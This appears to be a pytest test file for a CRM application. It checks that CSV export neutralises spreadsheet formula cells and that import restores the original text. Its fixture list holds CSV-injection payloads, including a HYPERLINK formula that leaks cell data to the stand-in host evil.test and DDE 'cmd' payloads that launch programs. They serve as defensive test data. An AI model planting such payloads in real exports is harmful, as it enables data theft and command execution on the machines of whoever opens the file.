"""CSV export neutralises cells a spreadsheet would run as formulas; import gives back the text."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from crm.extensions import db
from crm.models import Activity, Company, Contact, Deal, Task
from crm.services.transfer import FORMULA_STARTS, neutralise_formula, restore_formula_text
from tests.cli.test_transfer import empty_the_workspace_and_recreate_users, export, run_import

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted by the user",
    "''=two quotes",
    "'plain apostrophe",
    "- a dash list item",
    "Normal = title, with + and @ inside",
]


@pytest.fixture
def hostile(api):
    company = api.create("/companies", {"name": "=cmd|' /C notepad'!A0"})
    contact = api.create("/contacts", {"first_name": "@Ada", "last_name": "-Lovelace", "phone": "+44 20 7946 0000",
                                       "company_id": company["id"]})
    api.create("/deals", {"name": "Refund", "amount": "-1500.00", "currency": "EUR"})
    for title in HOSTILE_TITLES:
        api.create("/tasks", {"title": title, "description": title, "contact_id": contact["id"]})
    api.create("/activities", {"type": "note", "subject": "=IMPORTXML(A1)", "body": "+SUM(A1:A9)",
                               "occurred_at": "2026-02-01T10:00:00Z"})
    return api


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_export_writes_no_cell_a_spreadsheet_would_run(runner, hostile):
    cells = cells_of(export(runner, "--format", "csv"))
    runnable = [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-1500.00"]
    assert runnable == []
    for title in HOSTILE_TITLES:
        written = neutralise_formula(title)
        assert cells.count(written) == 2, title  # title and description
    assert "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click me\")" in cells
    assert "'+44 20 7946 0000" in cells and "'@Ada" in cells and "'-Lovelace" in cells
    assert "'=IMPORTXML(A1)" in cells and "'+SUM(A1:A9)" in cells
    assert "'plain apostrophe" in cells  # an apostrophe before ordinary text is left alone
    assert "-1500.00" in cells  # a negative amount stays a number


def test_csv_export_then_import_gives_back_the_original_text(app, runner, hostile, tmp_path):
    path = tmp_path / "export.csv"
    export(runner, "-o", str(path))
    first = path.read_text(encoding="utf-8")
    target = empty_the_workspace_and_recreate_users(app, hostile)
    result = run_import(runner, path, "--workspace", "Fresh")
    assert result.exit_code == 0, result.output

    with app.app_context():
        tasks = db.session.execute(select(Task.title, Task.description).where(Task.workspace_id == target)).all()
        assert sorted(t.title for t in tasks) == sorted(HOSTILE_TITLES)
        assert all(t.title == t.description for t in tasks)
        contact = db.session.scalars(select(Contact).where(Contact.workspace_id == target)).one()
        assert (contact.first_name, contact.last_name, contact.phone) == ("@Ada", "-Lovelace", "+44 20 7946 0000")
        assert db.session.scalars(select(Company.name).where(Company.workspace_id == target)).one() \
            == "=cmd|' /C notepad'!A0"
        assert str(db.session.scalars(select(Deal.amount).where(Deal.workspace_id == target)).one()) == "-1500.00"
        activity = db.session.scalars(select(Activity).where(Activity.workspace_id == target)).one()
        assert (activity.subject, activity.body) == ("=IMPORTXML(A1)", "+SUM(A1:A9)")

    again = tmp_path / "again.csv"
    export(runner, "--workspace", target, "-o", str(again))
    assert again.read_text(encoding="utf-8") == first


@pytest.mark.parametrize("text", [
    "=1", "+1", "-x", "@x", "\tx", "\rx", "\t", "'=1", "''+1", "'", "''", "'x", "plain", "", "-5", "-5.25", "'-5",
    "=", "a=b",
])
def test_neutralised_cells_restore_to_the_original_text(text):
    cell = neutralise_formula(text)
    assert not cell.startswith(FORMULA_STARTS) or cell in ("-5", "-5.25")
    assert restore_formula_text(cell) == text


def test_tab_and_carriage_return_starts_are_quoted():
    assert neutralise_formula("\t=1+1") == "'\t=1+1"
    assert neutralise_formula("\r=1+1") == "'\r=1+1"


def test_a_hand_written_csv_with_spreadsheet_quotes_imports_the_text(app, runner, api, tmp_path):
    path = tmp_path / "tasks.csv"
    path.write_text("title,description\n'=SUM(A1),'+1 555 0100\n'O'Neill,plain\n", encoding="utf-8")
    result = run_import(runner, path, "--kind", "task")
    assert result.exit_code == 0, result.output
    titles = {t["title"]: t["description"] for t in api.get("/tasks").get_json()["data"]}
    assert titles == {"=SUM(A1)": "+1 555 0100", "'O'Neill": "plain"}
